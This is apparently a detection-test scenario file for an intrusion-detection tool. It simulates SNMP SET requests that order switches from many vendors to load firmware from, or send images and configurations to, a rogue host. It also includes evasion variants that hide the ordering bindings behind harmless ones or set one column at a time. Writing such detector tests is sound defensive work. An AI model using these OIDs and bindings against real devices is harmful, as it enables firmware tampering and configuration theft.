"""BW04: the other objects that move an image, and what must not hide a SET."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, DEVICE, HQ, ROGUE
from bootwarden.scenarios.snmp_rows import FORCE10, HP_FOUNDRY, HP_INET, SMALL_CISCO
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

FOUNDRY = "1.3.6.1.4.1.1991.1.1.2.1"
HUAWEI = "1.3.6.1.4.1.2011.6.9.1.2.1.1"
H3C = "1.3.6.1.4.1.25506.2.5.1.2.1.1"
OLD_H3C = "1.3.6.1.4.1.2011.10.2.5.1.2.1.1"
RADLAN = "1.3.6.1.4.1.89.87.2.1"
NETGEAR = "1.3.6.1.4.1.4526.17.87.2.1"
EXTREME = "1.3.6.1.4.1.1916.1.10.1.2.1"
CREATE_AND_GO = 4
WHERE = IPv4Address(ROGUE)


def foundry(group: str, operation: int) -> list[snmp.Binding]:
    """A Foundry switch moves an image."""
    return [(f"{group}.5.0", WHERE), (f"{group}.6.0", "fgs.bin"), (f"{group}.7.0", operation)]


def sends(table: str) -> list[snmp.Binding]:
    """A small switch sends its image."""
    return snmp.row(table, 1, {3: 1, 7: 8, 8: 3, 9: WHERE, 11: "image.ros", 17: CREATE_AND_GO})


def flash(table: str, operation: int, protocol: int = 2) -> list[snmp.Binding]:
    """A Huawei or H3C device moves an image."""
    return snmp.row(table, 2, {2: operation, 3: protocol, 4: WHERE, 7: "a.cc", 8: "b.cc", 12: CREATE_AND_GO})


MOVED: dict[str, tuple[int, str, list[snmp.Binding]]] = {
    "10.0.1.41": (3, "fgs.bin", foundry(FOUNDRY, 20)),
    "10.0.1.42": (1542006014, "fgs.bin", foundry(f"{HP_FOUNDRY}.1", 22)),
    "10.0.1.43": (1542006015, "fgs.bin", foundry(FOUNDRY, 19)),
    "10.0.1.44": (1542006016, "fgs.bin", foundry(f"{HP_FOUNDRY}.1", 21)),
    "10.0.1.45": (
        1542006000,
        "c2900.bin",
        snmp.row(snmp.FLASH_COPY, 77, {2: 3, 3: 1, 4: WHERE, 5: "c2900.bin", 6: "c2900.bin", 11: CREATE_AND_GO}),
    ),
    "10.0.1.46": (1542006002, "c2600.bin", [(f"1.3.6.1.4.1.9.2.10.9.{ROGUE}", "c2600.bin")]),
    "10.0.1.47": (
        1542006024,
        "KB.swi",
        snmp.row(HP_INET, 1, {2: 1, 3: WHERE.packed, 4: "KB.swi", 9: 2, 17: 2, 18: 1, 13: CREATE_AND_GO}),
    ),
    "10.0.1.48": (1542006030, "a.cc", flash(HUAWEI, 3, 3)),
    "10.0.1.49": (1542006039, "a.cc", flash(OLD_H3C, 1)),
    "10.0.1.50": (1542006040, "a.cc", flash(H3C, 3)),
    "10.0.1.51": (1542006041, "a.cc", flash(OLD_H3C, 3)),
    "10.0.1.52": (
        1542006055,
        "image.ros",
        snmp.row(NETGEAR, 1, {3: 3, 4: WHERE, 6: "image.ros", 7: 8, 8: 1, 12: 8, 17: CREATE_AND_GO}),
    ),
    "10.0.1.53": (1542006058, "image.ros", sends(RADLAN)),
    "10.0.1.54": (1542006061, "image.ros", sends(SMALL_CISCO)),
    "10.0.1.55": (1542006062, "image.ros", sends(NETGEAR)),
    "10.0.1.56": (
        1542006075,
        "FTOS.bin",
        snmp.row(FORCE10, 101, {2: 1, 3: 1, 4: "FTOS", 5: 1, 6: 3, 7: "FTOS.bin", 8: WHERE, 15: CREATE_AND_GO}),
    ),
}


@scenario(
    "BW04",
    "malicious",
    raises=[("BW04", number, ATTACKER, device) for device, (number, _, _) in MOVED.items()],
    site=HQ,
    with_site=Expect(tuple(Notice("SNMP_Image_Copy", d, ROGUE, file) for d, (_, file, _) in MOVED.items())),
)
def bw04_more_vendors(wire: Wire) -> None:
    """Devices of all brands are told to take an image, or to send theirs."""
    for device, (_, _, bindings) in MOVED.items():
        snmp.Manager(wire, ATTACKER, device, community="hq-rw").set(*bindings)


@scenario(
    "BW04",
    "malicious",
    raises=[("BW04", 1542006080, ATTACKER, "10.0.1.15")],
    site=HQ,
    with_site=Expect((Notice("SNMP_Image_Copy", "10.0.1.15", ROGUE, "evil.xos"),)),
)
def bw04_behind_sixty_bindings(wire: Wire) -> None:
    """Sixty harmless bindings come before those that order."""
    harmless: list[snmp.Binding] = [(f"1.3.6.1.2.1.2.2.1.7.{port}", 1) for port in range(1, 61)]
    row = snmp.row(EXTREME, 1, {2: WHERE, 3: "evil.xos", 4: 1, 6: 1})
    snmp.Manager(wire, ATTACKER, "10.0.1.15", community="hq-rw").set(*harmless, *row, answered=False)


@scenario(
    "BW04",
    "malicious",
    raises=[("BW04", 1542006073, ATTACKER, DEVICE), ("BW03", 1542006072, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect(
        (
            Notice("SNMP_Image_Copy", DEVICE, ROGUE, "FTOS.bin"),
            Notice("SNMP_Config_Copy", DEVICE, ROGUE, "os9.cfg"),
        )
    ),
)
def bw04_then_its_configuration(wire: Wire) -> None:
    """From one port a Dell switch is told to load an image, then a configuration, a column at a time."""
    manager = snmp.Manager(wire, ATTACKER, DEVICE, community="hq-rw")
    for index, kind, file in ((1, 1, "FTOS.bin"), (2, 3, "os9.cfg")):
        columns = {15: 5, 5: kind, 3: 3, 4: file, 8: WHERE}
        for column, value in columns.items():
            manager.set(*snmp.row(FORCE10, index, {column: value}), answered=False)
            wire.wait(1)
        manager.set(*snmp.row(FORCE10, index, {15: 1}), answered=False)
        wire.wait(20)


@scenario("BW04", "benign", site=HQ, with_site=Expect(evidence=()))
def bw04_other_values(wire: Wire) -> None:
    """The same objects are given values that move and set nothing, and are read."""
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE, community="hq-rw")
    manager.set(*snmp.row("1.3.6.1.4.1.9.9.10.1.2.3.1", 9, {2: 2, 3: "c2900.bin", 7: CREATE_AND_GO}))
    manager.set((f"{FOUNDRY}.7.0", 1), (f"{FOUNDRY}.6.0", "fgs.bin"))
    manager.set(*snmp.row(SMALL_CISCO, 1, {3: 1, 7: 8, 8: 2, 12: 8, 17: CREATE_AND_GO}))
    manager.set(*snmp.row(FORCE10, 101, {2: 1, 3: 1, 5: 1, 6: 2, 7: "FTOS.bin", 15: CREATE_AND_GO}))
    manager.get(*foundry(FOUNDRY, 20), *flash(HUAWEI, 1), *sends(RADLAN))
